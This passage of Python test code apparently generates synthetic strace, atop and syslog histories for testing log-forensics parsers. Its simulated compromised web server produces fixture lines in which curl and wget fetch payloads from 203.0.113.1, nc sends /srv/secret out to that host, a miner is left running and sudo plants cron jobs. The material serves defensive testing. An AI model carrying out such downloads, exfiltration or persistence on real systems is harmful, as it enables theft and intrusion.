"""Histories of made-up machines: what happened, and what strace, atop and syslog saw.

A machine has a server that runs what requests ask for, logins, sudo and cron, and
programs that write, move and delete files of the same names. What leads a reader of
logs astray happens as well: identifiers are used again, machines have the same ones at
the same time, two programs write one file, a file has two names, is written after it
was renamed, clocks are set back, sockets are older than the trace, files of a trace
have no common order, processes are zombies. Only the history knows what led to what:
files that the parsers read have no more than the real programs write.
Usage: python -m tests.writers.histories FOLDER NUMBER [SEED]
"""

from __future__ import annotations

import datetime
import os
import random
import sys
import urllib.parse

from typing import Any
from typing import NamedTuple

from tests.writers import atop

# 2026-11-21 17:00:00 UTC, in microseconds since January 1, 1970 UTC.
_BEGIN = 1795280400000000
_SECOND = 1000000

_SAMPLE_SECONDS = 10

_PATHS = ("/tmp/a", "/tmp/b", "/dev/shm/.x", "/opt/job", "/srv/out")
TRACINGS = ("complete", "partial", "none")
_FIRST_IDENTIFIER = 300

# Calls that a part of the traces is without.
_TRANSFERS = ("read(", "write(", "sendto(", "recvfrom(", "sendfile(")

# Machines of so many do all they do within the same minutes.
_HOURS = 40

# Seconds by which a clock is set back.
_CLOCK_STEP = 900

# What all binaries begin with, as strace shows it.
_HEADER = "\\177ELF\\2\\1\\1" + 9 * "\\0" + "\\3\\0>\\0\\1" + 11 * "\\0"

_FLAGS_OF_FORK = "CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD"
_FLAGS_OF_THREAD = (
    "CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD|CLONE_SYSVSEM"
    "|CLONE_SETTLS|CLONE_PARENT_SETTID|CLONE_CHILD_CLEARTID"
)


class Process:
    """A process.

    Attributes:
      command (str): command line of the latest program.
      end (int): time in microseconds, or None.
      identifier (int): process identifier.
      is_traced (bool): True if strace follows it.
      name (str): name of the latest program.
      number (int): number among those of the history.
      reaped (int): time at which its parent asked how it ended, or None.
      start (int): time in microseconds.
      user (int): user identifier.
    """

    def __init__(
        self, number: int, identifier: int, parent: Process | None, start: int
    ) -> None:
        """Initializes a process."""
        super().__init__()
        self.command = ""
        self.end: int | None = None
        self.identifier = identifier
        self.is_traced = False
        self.name = ""
        self.number = number
        self.parent = parent
        self.reaped: int | None = None
        self.start = start
        self.user = 0


class Content:
    """What is in a file, whatever its names are.

    Attributes:
      sources (list[tuple[str, tuple[object, ...]]]): where its bytes came from: kind of
          the step, and cause.
      writers (list[tuple[Process, int]]): who wrote it since it was emptied, the last
          one last, and the number of the write.
    """

    def __init__(self) -> None:
        """Initializes a content that nobody has written."""
        super().__init__()
        self.sources: list[tuple[str, tuple[object, ...]]] = []
        self.writers: list[tuple[Process, int]] = []


class Truth(NamedTuple):
    """What led to something.

    Attributes:
      effect: kind and name of the effect.
      kind: kind of the step, as cause_rules.KINDS has it.
      cause: kind and name of the cause.
      evidence: what tells it, all of which is needed.
    """

    effect: tuple[object, ...]
    kind: str
    cause: tuple[object, ...]
    evidence: tuple[tuple[str, int], ...]


class _Request(NamedTuple):
    """A request that a server was sent.

    Attributes:
      address: address that it came from.
      port: port that it came from.
      descriptor: number of the descriptor of the connection.
      thread: identifier of the thread that reads it.
    """

    address: str
    port: int
    text: str
    descriptor: int
    thread: int


# True, but nothing tells it: it is no fault if it is said.
_NEVER = ("never", 0)


# Each attribute is a part of the machine.
class History:  # pylint: disable=too-many-instance-attributes
    """A history.

    Attributes:
      has_atop (bool): True if atop recorded the machine.
      host (str): name of the machine.
      tracing (str): what strace saw: "complete", "partial" or "none".
      truths (list[Truth]): what led to what.
    """

    def __init__(self, seed: int) -> None:
        """Makes a history of a seed."""
        super().__init__()
        self.host = f"h{seed:04d}"
        self.processes: list[Process] = []
        self.tracing = TRACINGS[seed % len(TRACINGS)]
        self.truths: list[Truth] = []
        # Two files are older than the history.
        self._files: dict[str, Content | None] = {
            path: Content() for path in _PATHS[-2:]
        }
        self._lines: list[tuple[int, int, str]] = []
        self._logs: list[tuple[int, str, str, str, str]] = []
        self._numbers = 0
        self._random = random.Random(seed)
        self._schedules: list[tuple[str, int]] = []
        self._seed = seed
        self._begin = _BEGIN + seed % _HOURS * 3600 * _SECOND
        self._time = self._begin + self._random.randrange(_SECOND)
        self._threads: list[int] = []
        self._writes: list[tuple[int, int]] = []
        # A part of the traces begins late, the others are without reads and writes.
        self._is_late = bool(self._random.getrandbits(1))
        self._first_line = 0
        # One log for all threads, or one for each, which have no common order.
        self._is_set = self._random.random() < 0.3
        self._step_line = -1
        self._step_time: int | None = None
        self._is_quick = False
        # strace -t has times of whole seconds.
        self._has_fractions = seed % 4 != 3
        # True if the server has read a pipe since it started a process.
        self._has_input = False
        # Line from which on all that the server reads is known: of what it reads only
        # once what it had read before can be what a process was started for.
        self._begun_line = 0
        self._has_step = self._random.random() < 0.15
        self.has_atop = not self._has_step and self._random.random() < 0.9
        self._Run()

    # The machine.

    def _Wait(self, seconds: float = 0.001) -> int:
        """Lets time pass, and returns the time."""
        self._time += int(seconds * _SECOND) + self._random.randrange(1, 200)
        return self._time

    def _GetNumber(self) -> int:
        """Retrieves a number that nothing else has."""
        self._numbers += 1
        return self._seed * 1000 + self._numbers

    def _GetIdentifier(self) -> int:
        """Chooses an identifier: one that was used before if it is free again."""
        alive = set(self._threads)
        used = set(self._threads)
        for process in self.processes:
            used.add(process.identifier)
            end = process.reaped or process.end
            if end is None or end > self._time - 6 * _SECOND:
                alive.add(process.identifier)
        free = sorted(used - alive)
        # strace would write the log of the first one anew.
        if free and not self._is_set and self._random.random() < 0.3:
            return self._random.choice(free)
        return max([_FIRST_IDENTIFIER, *used]) + 1

    def _Call(self, process: Process, text: str, thread: int | None = None) -> int:
        """Writes a line of strace, and returns its number or -1 if none sees it."""
        self._Wait()
        if not process.is_traced:
            return -1
        self._lines.append((self._time, thread or process.identifier, text))
        return len(self._lines) - 1

    def _Tell(
        self,
        effect: tuple[object, ...],
        kind: str,
        cause: tuple[object, ...],
        *evidence: tuple[str, int],
    ) -> None:
        """Notes what led to what."""
        self.truths.append(Truth(effect, kind, cause, evidence))

    def _Create(self, parent: Process | None, is_traced: bool = False) -> Process:
        """Starts a process."""
        identifier = self._GetIdentifier()
        line = -1
        if parent and is_traced:
            line = self._Call(
                parent,
                f"clone(child_stack=NULL, flags={_FLAGS_OF_FORK:s}, "
                f"child_tidptr=0x7f5eba36fa10) = {identifier:d}",
            )
        process = Process(len(self.processes), identifier, parent, self._Wait())
        process.is_traced = is_traced
        process.user = parent.user if parent else 0
        if parent:
            process.name, process.command = parent.name, parent.command
        self.processes.append(process)
        if parent:
            effect, cause = ("process", process.number), ("process", parent.number)
            if line >= 0:
                self._Tell(effect, "started", cause, ("strace", line))
            self._Tell(effect, "started", cause, ("parent", process.number))
        return process

    def _Execute(self, process: Process, path: str, *arguments: str) -> None:
        """Executes a program, or fails to if there is no such file."""
        words = " ".join((path, *arguments))
        texts = ", ".join('"' + word + '"' for word in (path, *arguments))
        content = self._files.get(path)
        is_there = path not in _PATHS or content is not None
        result = "0" if is_there else "-1 ENOENT (No such file or directory)"
        line = self._Call(
            process,
            f'execve("{path:s}", [{texts:s}], 0x7ffd1e6563e8 /* 2 vars */) = '
            f"{result:s}",
        )
        if not is_there:
            return
        process.name = path.rpartition("/")[2]
        process.command = words
        if content is None or line < 0:
            return
        # Of several writers the last one is told, and all of them are true.
        is_one = len({writer.number for writer, _ in content.writers}) == 1
        for index, (writer, write) in enumerate(content.writers):
            # Of several ones only calls that write tell who was the last.
            told = ("write", write) if is_one else ("strace", self._writes[write][1])
            if index < len(content.writers) - 1:
                told = _NEVER
            self._Tell(
                *(("process", process.number), "program", ("process", writer.number)),
                *(("strace", line), told),
            )

    def _Exit(self, process: Process) -> None:
        """Ends a process, which is a zombie for some time now and then."""
        self._Call(process, "exit_group(0) = ?")
        self._Call(process, "+++ exited with 0 +++")
        self._End(process, 0)

    def _End(self, process: Process, seconds: float) -> None:
        """Ends a process of which strace says nothing."""
        process.end = self._Wait(seconds) if seconds else self._time
        if self._random.random() < 0.2:
            process.reaped = process.end + self._random.randrange(5, 30) * _SECOND

    def _Log(
        self, sender: str, process: Process | None, text: str, host: str | None = None
    ) -> None:
        """Writes a line of a log, which other machines may send theirs to."""
        name = "syslog" if sender == "CRON" else "auth.log"
        identifier = f"[{process.identifier:d}]" if process else ""
        self._Wait()
        self._logs.append(
            (self._time, name, host or self.host, f"{sender:s}{identifier:s}", text)
        )

    # Files.

    def _Read(
        self,
        process: Process,
        name: str,
        data: str,
        descriptor: int,
        thread: int | None = None,
    ) -> int:
        """Reads from a descriptor."""
        return self._Call(
            process,
            f'read({descriptor:d}<{name:s}>, "{data:s}", 65536) = {len(data):d}',
            thread,
        )

    def _Open(self, process: Process, path: str, is_emptied: bool = True) -> int:
        """Opens a file for writing, as descriptor 6."""
        if is_emptied or not self._files.get(path):
            content = self._files.get(path) or Content()
            content.sources, content.writers = [], []
            self._files[path] = content
        flags = "O_WRONLY|O_CREAT|O_" + ("TRUNC" if is_emptied else "APPEND")
        return self._Call(
            process,
            f'openat(AT_FDCWD</>, "{path:s}", {flags:s}, 0666) = 6<{path:s}>',
        )

    def _PutBytes(
        self, process: Process, path: str, text: str, opened: int, descriptor: int = 6
    ) -> int:
        """Writes to an open file what strace shows as a text, with its size."""
        line = self._Call(process, f"write({descriptor:d}<{path:s}>, {text:s}")
        content = self._files[path]
        assert content is not None
        self._writes.append((opened, line))
        write = ("write", len(self._writes) - 1)
        content.writers.append((process, write[1]))
        for name, other in self._files.items():
            if other is content:
                evidence = write if name == path and line >= 0 else _NEVER
                effect = ("file", name)
                self._Tell(effect, "wrote", ("process", process.number), evidence)
        return line

    def _AddSource(
        self, path: str, cause: tuple[object, ...], *evidence: tuple[str, int]
    ) -> None:
        """Notes where the bytes of a file came from."""
        content = self._files[path]
        assert content is not None
        content.sources.append(("bytes", cause))
        for name, other in self._files.items():
            if other is content:
                told = evidence if name == path else (_NEVER,)
                self._Tell(("file", name), "bytes", cause, *told)

    def _Write(
        self,
        process: Process,
        path: str,
        data: str,
        source: tuple[tuple[object, ...], int] | None = None,
    ) -> None:
        """Writes a file, with what was read from a source."""
        opened = self._Open(process, path)
        text = f'"{data:s}", {len(data):d}) = {len(data):d}'
        line = self._PutBytes(process, path, text, opened)
        self._Call(process, f"close(6<{path:s}>) = 0")
        if line >= 0 and source and source[1] >= 0:
            self._AddSource(path, source[0], ("strace", line), ("strace", source[1]))

    def _MakeData(self) -> str:
        """Makes content that is like no other."""
        length = self._random.choice((12, 60, 200))
        letters = "abcdefghijklmnopqrstuvwxyz 0123456789"
        text = "".join(self._random.choice(letters) for _ in range(length))
        return f"{self._GetNumber():d} {text:s}"

    def _Rename(self, process: Process, path: str, other: str) -> None:
        """Renames a file, or gives it a second name that leads to the same content."""
        content = self._files[path]
        assert content is not None
        for writer, _ in content.writers:
            self._Tell(("file", other), "wrote", ("process", writer.number), _NEVER)
        for kind, cause in content.sources:
            self._Tell(("file", other), kind, cause, _NEVER)
        is_there = self._files.get(other) is not None
        self._files[other] = content
        if self._random.random() < 0.6:
            self._Call(process, f'rename("{path:s}", "{other:s}") = 0')
            self._files[path] = None
            return
        # A name that there is cannot be given again.
        if is_there:
            self._Call(process, f'unlink("{other:s}") = 0')
        self._Call(process, f'link("{path:s}", "{other:s}") = 0')
        if self._random.random() < 0.5:
            self._Call(process, f'unlink("{path:s}") = 0')
            self._files[path] = None

    def _MoveFile(self, process: Process) -> None:
        """Moves, links or deletes a file."""
        path, other = self._random.sample(_PATHS, 2)
        if not self._files.get(path) or self._files[path] is self._files.get(other):
            return
        if self._random.random() < 0.3:
            self._Call(process, f'unlink("{path:s}") = 0')
            self._files[path] = None
        else:
            self._Rename(process, path, other)

    # Connections.

    def _Name(self, address: str, port: int) -> str:
        """Names a connection as strace -yy does."""
        return f"TCP:[192.0.2.10:80->{address:s}:{port:d}]"

    def _GetPeer(self) -> tuple[str, int]:
        """Chooses an address, and a port that no other connection has."""
        return f"203.0.113.{self._random.randrange(1, 9):d}", 20000 + self._numbers

    def _Accept(
        self, server: Process, descriptor: int, thread: int | None = None
    ) -> tuple[str, int]:
        """Accepts a connection."""
        self._GetNumber()
        address, port = self._GetPeer()
        line = self._Call(
            server,
            f"accept4(3<TCP:[0.0.0.0:80]>, {{sa_family=AF_INET, sin_port=htons({port:d}"
            f'), sin_addr=inet_addr("{address:s}")}}, [16], SOCK_CLOEXEC) = '
            f"{descriptor:d}<{self._Name(address, port):s}>",
            thread,
        )
        effect = ("connection", f"{address:s}:{port:d}")
        if line >= 0:
            self._Tell(effect, "accepted", ("address", address), ("strace", line))
            self._Tell(effect, "peer", ("address", address), _NEVER)
        return address, port

    def _Connect(self, process: Process) -> tuple[str, int]:
        """Connects to an address."""
        self._GetNumber()
        address, port = self._GetPeer()
        number = self._GetNumber()
        self._Call(
            process, f"socket(AF_INET, SOCK_STREAM, IPPROTO_TCP) = 5<TCP:[{number:d}]>"
        )
        line = self._Call(
            process,
            f"connect(5<TCP:[{number:d}]>, {{sa_family=AF_INET, sin_port=htons({port:d}"
            f'), sin_addr=inet_addr("{address:s}")}}, 16) = 0',
        )
        effect = ("connection", f"{address:s}:{port:d}")
        if line >= 0:
            self._Tell(effect, "connected", ("address", address), ("strace", line))
            self._Tell(effect, "peer", ("address", address), _NEVER)
        return address, port

    def _Resolve(self, process: Process) -> None:
        """Asks a name server, which nothing is connected to."""
        address = f"192.0.2.{self._random.randrange(50, 60):d}"
        number, data = self._GetNumber(), self._MakeData()
        self._Call(
            process,
            "socket(AF_INET, SOCK_DGRAM|SOCK_CLOEXEC, IPPROTO_IP) = "
            f"7<UDP:[{number:d}]>",
        )
        line = self._Call(
            process,
            f"connect(7<UDP:[{number:d}]>, {{sa_family=AF_INET, sin_port=htons(53), "
            f'sin_addr=inet_addr("{address:s}")}}, 16) = 0',
        )
        name = f"UDP:[192.0.2.10:{30000 + number % 10000:d}->{address:s}:53]"
        self._Call(
            process,
            f'sendto(7<{name:s}>, "{data:s}", {len(data):d}, MSG_NOSIGNAL, NULL, 0) = '
            f"{len(data):d}",
        )
        self._Call(
            process,
            f'recvfrom(7<{name:s}>, "{data[::-1]:s}", 2048, 0, NULL, NULL) = '
            f"{len(data):d}",
        )
        self._Call(process, f"close(7<{name:s}>) = 0")
        if line >= 0:
            self._Tell(
                *(("datagrams", f"{address:s}:53"), "addressed"),
                *(("address", address), ("strace", line)),
            )

    # What happens.

    def _AcceptRequests(self, server: Process, request: str) -> list[_Request]:
        """Accepts a request, and another one at times, in any order."""
        text = f"GET /run?c={request:s} HTTP/1.1"
        requests = []
        if self._random.random() < 0.2:
            # The connection is older than the trace, and its number free for good.
            self._GetNumber()
            address, port = self._GetPeer()
            descriptor = 20 + len(self._lines)
            requests.append(
                _Request(address, port, text, descriptor, server.identifier)
            )
        else:
            peer = self._Accept(server, 4)
            requests.append(_Request(*peer, text, 4, server.identifier))
        if self._random.random() < 0.4:
            thread = self._random.choice([server.identifier, *self._threads])
            peer = self._Accept(server, 7, thread)
            requests.append(_Request(*peer, "GET /index.html HTTP/1.1", 7, thread))
        self._random.shuffle(requests)
        return requests

    def _ReadRequests(
        self, server: Process, requests: list[_Request]
    ) -> dict[int, int]:
        """Reads requests, and returns the line per descriptor."""
        lines = {}
        for address, port, text, descriptor, thread in requests:
            name = self._Name(address, port)
            line = self._Read(server, name, text, descriptor, thread)
            lines[descriptor] = line
            if descriptor > 7 and line >= 0:
                self._Tell(
                    *(("connection", f"{address:s}:{port:d}"), "peer"),
                    *(("address", address), ("strace", line)),
                )
        return lines

    def _TellTrigger(
        self,
        process: Process,
        peer: tuple[str, int],
        line: int,
        is_known: bool,
        is_only: bool,
    ) -> None:
        """Notes which connection a process was started for, and who can know that."""
        started = len(self._lines) - 1
        # What a pipe had said may be what it was started for.
        if line >= 0:
            evidence = [_NEVER]
            if is_known or is_only:
                evidence = [("strace", line), ("strace", started)]
            if not is_known:
                evidence.append(("strace", self._begun_line))
            connection = ("connection", f"{peer[0]:s}:{peer[1]:d}")
            self._Tell(("process", process.number), "trigger", connection, *evidence)

    def _Serve(self, server: Process) -> None:
        """Runs what a request asks for."""
        command = f"job {self._MakeData():s}"
        is_known = self._random.random() < 0.7
        request = urllib.parse.quote_plus(command) if is_known else "POST%20opaque"
        requests = self._AcceptRequests(server, request)
        lines = self._ReadRequests(server, requests)
        shell = self._Create(server, True)
        threads = [one.thread for one in requests]
        is_only = threads.count(server.identifier) == 1 and not self._has_input
        self._has_input = False
        for one in requests:
            if one.descriptor != 7:
                line = lines[one.descriptor]
                peer = one.address, one.port
                self._TellTrigger(shell, peer, line, is_known, is_only)
        self._begun_line = len(self._lines) - 1
        self._Execute(shell, "/bin/sh", "-c", command)
        actions = (
            *(self._Download, self._Send, self._Pipe, self._Start, self._Start),
            *(self._Install, self._WriteTogether, self._WriteRenamed),
            *(self._Redirect, self._Make, self._Leave),
        )
        self._random.choice(actions)(shell)
        self._Exit(shell)
        for one in requests:
            name = self._Name(one.address, one.port)
            self._Call(server, f"close({one.descriptor:d}<{name:s}>) = 0", one.thread)

    def _Answer(self, server: Process) -> None:
        """Sends what a program has written, which is the same each time."""
        peer = self._Accept(server, 4)
        name, pipe = self._Name(*peer), f"pipe:[{self._GetNumber():d}]"
        request = self._Read(server, name, "GET /id HTTP/1.1", 4)
        created = self._Call(
            server, f"pipe2([8<{pipe:s}>, 9<{pipe:s}>], O_CLOEXEC) = 0"
        )
        child = self._Create(server, True)
        self._TellTrigger(child, peer, request, False, not self._has_input)
        self._begun_line = len(self._lines) - 1
        self._Call(server, f"close(9<{pipe:s}>) = 0")
        self._Call(child, f"dup2(9<{pipe:s}>, 1<{pipe:s}>) = 1<{pipe:s}>")
        self._Execute(child, "/usr/bin/id")
        data = "uid=33(www-data) gid=33(www-data) groups=33(www-data)"
        text = f'"{data:s}", {len(data):d}) = {len(data):d}'
        lines = [created, self._Call(child, f"write(1<{pipe:s}>, {text:s}")]
        self._Exit(child)
        lines.append(self._Read(server, pipe, data, 8))
        self._has_input = True
        lines.append(self._Call(server, f"write(4<{name:s}>, {text:s}"))
        self._Call(server, f"close(8<{pipe:s}>) = 0")
        self._Call(server, f"close(4<{name:s}>) = 0")
        if created >= 0:
            evidence = [("strace", line) for line in lines]
            effect, cause = ("pipe", pipe), ("process", child.number)
            self._Tell(effect, "wrote at", cause, *evidence)
            effect = ("connection", f"{peer[0]:s}:{peer[1]:d}")
            self._Tell(effect, "sent", ("pipe", pipe), *evidence[2:])

    def _Download(self, shell: Process) -> None:
        """Downloads a file."""
        process = self._Create(shell, True)
        self._Execute(process, "/usr/bin/curl", "-s", "http://203.0.113.1/x")
        if self._random.random() < 0.5:
            self._Resolve(process)
        address, port = self._Connect(process)
        data = self._MakeData()
        line = self._Read(process, self._Name(address, port), data, 5)
        source = (("connection", f"{address:s}:{port:d}"), line)
        self._Write(process, self._random.choice(_PATHS), data, source)
        self._Exit(process)

    def _Install(self, shell: Process) -> None:
        """Downloads a program, which begins as all others do."""
        process = self._Create(shell, True)
        self._Execute(process, "/usr/bin/wget", "-q", "http://203.0.113.1/y")
        library = "/usr/lib/x86_64-linux-gnu/libssl.so.3"
        self._Call(
            process, f'openat(AT_FDCWD</>, "{library:s}", O_RDONLY) = 3<{library:s}>'
        )
        self._Call(process, f'read(3<{library:s}>, "{_HEADER:s}"..., 832) = 832')
        self._Call(process, f"close(3<{library:s}>) = 0")
        address, port = self._Connect(process)
        name = self._Name(address, port)
        size = self._random.choice((832, 4096))
        text = f'"{_HEADER:s}"..., {size:d}) = {size:d}'
        self._Call(process, f"read(5<{name:s}>, {text:s}")
        path = self._random.choice(_PATHS)
        opened = self._Open(process, path)
        self._PutBytes(process, path, text, opened)
        self._Call(process, f"close(6<{path:s}>) = 0")
        self._AddSource(path, ("connection", f"{address:s}:{port:d}"), _NEVER)
        self._Exit(process)

    def _Send(self, shell: Process) -> None:
        """Sends a file."""
        process = self._Create(shell, True)
        self._Execute(process, "/bin/nc", "203.0.113.1")
        address, port = self._Connect(process)
        data = self._MakeData()
        self._Call(
            process, 'openat(AT_FDCWD</>, "/srv/secret", O_RDONLY) = 8</srv/secret>'
        )
        name = self._Name(address, port)
        if self._random.random() < 0.3:
            line = read = self._Call(
                process,
                f"sendfile(5<{name:s}>, 8</srv/secret>, NULL, 65536) = {len(data):d}",
            )
        else:
            read = self._Read(process, "/srv/secret", data, 8)
            line = self._Call(
                process,
                f'write(5<{name:s}>, "{data:s}", {len(data):d}) = {len(data):d}',
            )
        if line >= 0:
            self._Tell(
                ("connection", f"{address:s}:{port:d}"),
                *("sent", ("file", "/srv/secret")),
                *(("strace", line), ("strace", read)),
            )
        self._Exit(process)

    def _Pipe(self, shell: Process) -> None:
        """Writes a file with what another process wrote to a pipe."""
        name = f"pipe:[{self._GetNumber():d}]"
        created = self._Call(shell, f"pipe2([4<{name:s}>, 5<{name:s}>], 0) = 0")
        writer, reader = self._Create(shell, True), self._Create(shell, True)
        for process, descriptor, target in ((writer, 5, 1), (reader, 4, 0)):
            self._Call(
                process,
                f"dup2({descriptor:d}<{name:s}>, {target:d}) = {target:d}<{name:s}>",
            )
            self._Call(process, f"close(4<{name:s}>) = 0")
            self._Call(process, f"close(5<{name:s}>) = 0")
        self._Execute(writer, "/usr/bin/seq", "9")
        self._Execute(reader, "/usr/bin/tee", "-a")
        executed = len(self._lines) - 1
        data = self._MakeData()
        line = self._Call(
            writer, f'write(1<{name:s}>, "{data:s}", {len(data):d}) = {len(data):d}'
        )
        if line >= 0:
            self._Tell(
                *(("pipe", name), "wrote at", ("process", writer.number)),
                *(("strace", line), ("strace", created)),
            )
            self._Tell(
                *(("process", reader.number), "input", ("pipe", name)),
                *(("strace", executed), ("strace", created)),
            )
        line = self._Read(reader, name, data, 0)
        self._Write(reader, self._random.choice(_PATHS), data, (("pipe", name), line))
        self._Exit(writer)
        self._Exit(reader)

    def _Start(self, shell: Process) -> None:
        """Executes a file, or moves one."""
        self._MoveFile(shell)
        path = self._random.choice(_PATHS)
        process = self._Create(shell, True)
        self._Execute(process, path, "-v")
        self._Exit(process)

    def _WriteTogether(self, shell: Process) -> None:
        """Writes a file by two programs at a time, the first of which ends it."""
        path = self._random.choice(_PATHS)
        writers = [self._Create(shell, True) for _ in range(2)]
        opened = []
        for process in writers:
            self._Execute(process, "/usr/bin/logger", "-f", path)
            opened.append(self._Open(process, path, process is writers[0]))
        is_early = self._random.random() < 0.3
        for turn, index in enumerate((0, 1, 0)):
            if turn == 2 and is_early:
                self._ExecuteFile(shell, path)
            data = self._MakeData()
            text = f'"{data:s}", {len(data):d}) = {len(data):d}'
            self._PutBytes(writers[index], path, text, opened[index])
        for process in writers:
            self._Exit(process)
        self._ExecuteFile(shell, path)

    def _WriteRenamed(self, shell: Process) -> None:
        """Writes a file after it was renamed, when another one has its name."""
        path, other = self._random.sample(_PATHS, 2)
        writer, second = self._Create(shell, True), self._Create(shell, True)
        self._Execute(writer, "/usr/bin/rsync", "-x")
        self._Execute(second, "/usr/bin/cp", "-y")
        opened = self._Open(writer, path)
        data = self._MakeData()
        self._PutBytes(
            writer, path, f'"{data:s}", {len(data):d}) = {len(data):d}', opened
        )
        self._Call(shell, f'rename("{path:s}", "{other:s}") = 0')
        self._files[other] = self._files[path]
        self._files[path] = None
        self._Tell(("file", other), "wrote", ("process", writer.number), _NEVER)
        self._Write(second, path, self._MakeData())
        data = self._MakeData()
        # Under this name there is a file before the trace shows it.
        self._PutBytes(
            writer, other, f'"{data:s}", {len(data):d}) = {len(data):d}', opened
        )
        self._Call(writer, f"close(6<{other:s}>) = 0")
        self._Exit(writer)
        self._Exit(second)
        self._ExecuteFile(shell, self._random.choice((path, other)))

    def _Redirect(self, shell: Process) -> None:
        """Writes a file that another process has opened."""
        path = self._random.choice(_PATHS)
        opened = self._Open(shell, path)
        child = self._Create(shell, True)
        self._Call(child, f"dup2(6<{path:s}>, 1</dev/null>) = 1<{path:s}>")
        self._Execute(child, "/usr/bin/printf", "x")
        data = self._MakeData()
        text = f'"{data:s}", {len(data):d}) = {len(data):d}'
        line = self._PutBytes(child, path, text, opened, 1)
        # Who opened it is told as well, but not that it is who wrote.
        self._writes[-1] = (line, line)
        self._Exit(child)
        self._Call(shell, f"close(6<{path:s}>) = 0")
        self._ExecuteFile(shell, path)

    def _ExecuteFile(self, shell: Process, path: str) -> None:
        """Executes a file, most times."""
        if self._random.random() < 0.8:
            process = self._Create(shell, True)
            self._Execute(process, path)
            self._Exit(process)

    def _Make(self, shell: Process) -> None:
        """Builds programs; jobs are started after a token was read from a pipe."""
        make = self._Create(shell, True)
        self._Execute(make, "/usr/bin/make", "-j2")
        name = f"pipe:[{self._GetNumber():d}]"
        created = self._Call(make, f"pipe2([3<{name:s}>, 4<{name:s}>], O_CLOEXEC) = 0")
        written = self._Call(make, f'write(4<{name:s}>, "+", 1) = 1')
        if created >= 0:
            evidence = (("strace", written), _NEVER)
            cause = ("process", make.number)
            self._Tell(("pipe", name), "wrote at", cause, *evidence)
        for _ in range(2):
            self._Call(make, f'read(3<{name:s}>, "+", 1) = 1')
            compiler = self._Create(make, True)
            self._Execute(compiler, "/usr/bin/cc", "-c", "main.c")
            source = "/srv/src/main.c"
            self._Call(
                compiler, f'openat(AT_FDCWD</>, "{source:s}", O_RDONLY) = 3<{source:s}>'
            )
            self._Read(compiler, source, self._MakeData(), 3)
            self._Write(compiler, self._random.choice(_PATHS), self._MakeData())
            self._Exit(compiler)
            self._Call(make, f'write(4<{name:s}>, "+", 1) = 1')
        self._Exit(make)

    def _Leave(self, shell: Process) -> None:
        """Starts a process that init adopts."""
        process = self._Create(shell, True)
        self._Execute(process, "/usr/bin/miner", "-B")

    def _LogIn(self, daemon: Process) -> None:
        """Logs in, and copies files as root."""
        session = self._Create(daemon)
        session.name, session.command = "sshd", "sshd: eve [priv]"
        address, port = self._GetPeer()
        text = f"Accepted password for eve from {address:s} port {port:d} ssh2"
        self._Log("sshd", session, text)
        line = ("line", text)
        self._Tell(line, "login", ("address", address))
        evidence = ("atop", session.number)
        self._Tell(("process", session.number), "logged", line, evidence)
        self._Tell(line, "meant", ("process", session.number), evidence)
        if self._random.random() < 0.3:
            # Another machine, whose identifiers are the same ones.
            other, text = f"g{self._seed:04d}", text.replace("eve", "bob")
            self._Log("sshd", session, text, other)
            self._Tell(("line", text), "login", ("address", address))
        shell = self._Create(session)
        shell.user, shell.name, shell.command = 1000, "bash", "-bash"
        if self._random.random() < 0.3:
            process = self._Create(shell)
            process.name, process.command = "screen", "SCREEN"
        for _ in range(self._random.randrange(1, 3)):
            self._Sudo(shell, line)
        self._End(shell, 0.5)
        text = "pam_unix(sshd:session): session closed for user eve"
        self._Log("sshd", session, text)
        self._End(session, 0.1)

    def _Sudo(self, shell: Process, login: tuple[object, ...]) -> None:
        """Runs a command as root."""
        number = self._GetNumber()
        source, target = f"/home/eve/x{number:d}", f"/usr/local/bin/y{number:05d}"
        if self._random.random() < 0.5:
            target = f"/etc/cron.d/j{number:05d}"
        sudo = self._Create(shell)
        sudo.user, sudo.name, sudo.command = 0, "sudo", f"sudo cp {source:s} {target:s}"
        child = self._Create(sudo)
        child.name, child.command = "cp", f"cp {source:s} {target:s}"
        text = (
            "eve : TTY=pts/0 ; PWD=/home/eve ; USER=root ; COMMAND=/usr/bin/cp "
            f"{source:s} {target:s}"
        )
        self._Log("sudo", None, text)
        line = ("line", text)
        self._Tell(("file", target), "wrote", line)
        self._Tell(("file", target), "copied", ("file", source))
        # Of two copies within a second either is the one.
        is_quick = self._random.random() < 0.2
        evidence = _NEVER if is_quick or self._is_quick else ("atop", child.number)
        self._Tell(line, "meant", ("process", child.number), evidence)
        self._Tell(("process", child.number), "logged", line, evidence)
        self._Tell(line, "session", login, _NEVER)
        if target.startswith("/etc/cron.d/"):
            self._schedules.append((target, len(self._logs)))
        self._End(child, 0.05)
        self._End(sudo, 0.01)
        self._is_quick = is_quick
        self._Wait(0.1 if is_quick else 3)

    def _RunCron(self, daemon: Process) -> None:
        """Runs a job of cron."""
        if not self._schedules:
            return
        path, _ = self._random.choice(self._schedules)
        base = path.rpartition("/")[2]
        worker = self._Create(daemon)
        shell = self._Create(worker)
        shell.name, shell.command = "sh", f"/bin/sh -c /usr/local/bin/{base:s}"
        text = f"(root) CMD (/usr/local/bin/{base:s} {self._GetNumber():d})"
        self._Log("CRON", shell, text)
        line = ("line", text)
        evidence = ("atop", shell.number)
        self._Tell(("process", shell.number), "logged", line, evidence)
        self._Tell(line, "meant", ("process", shell.number), evidence)
        # Times of syslog do not order what was before a clock was set and after it.
        is_later = self._step_time is None or self._logs[-1][0] > self._step_time
        self._Tell(line, "told", ("file", path), *([] if is_later else [_NEVER]))
        job = self._Create(shell)
        job.name, job.command = base, f"/usr/local/bin/{base:s}"
        for process in (job, shell, worker):
            self._End(process, 0.1)

    def _SetClock(self) -> None:
        """Sets the clock back."""
        self._step_time = self._time
        self._step_line = len(self._lines)
        self._time -= _CLOCK_STEP * _SECOND

    def _Run(self) -> None:
        """Lets the history happen."""
        init = self._Create(None)
        init.identifier, init.name, init.command = 1, "systemd", "/sbin/init"
        daemon = self._Create(init)
        daemon.name, daemon.command = "sshd", "sshd: /usr/sbin/sshd -D [listener]"
        cron = self._Create(init)
        cron.name, cron.command = "cron", "/usr/sbin/cron -f"
        server = self._Create(init)
        server.is_traced, server.user = self.tracing != "none", 33
        self._Execute(server, "/usr/bin/server", "--port", "80")
        self._begun_line = len(self._lines) - 1
        self._threads.append(self._GetIdentifier())
        self._Call(
            server,
            f"clone(child_stack=0x7f5eba36e000, flags={_FLAGS_OF_THREAD:s}, "
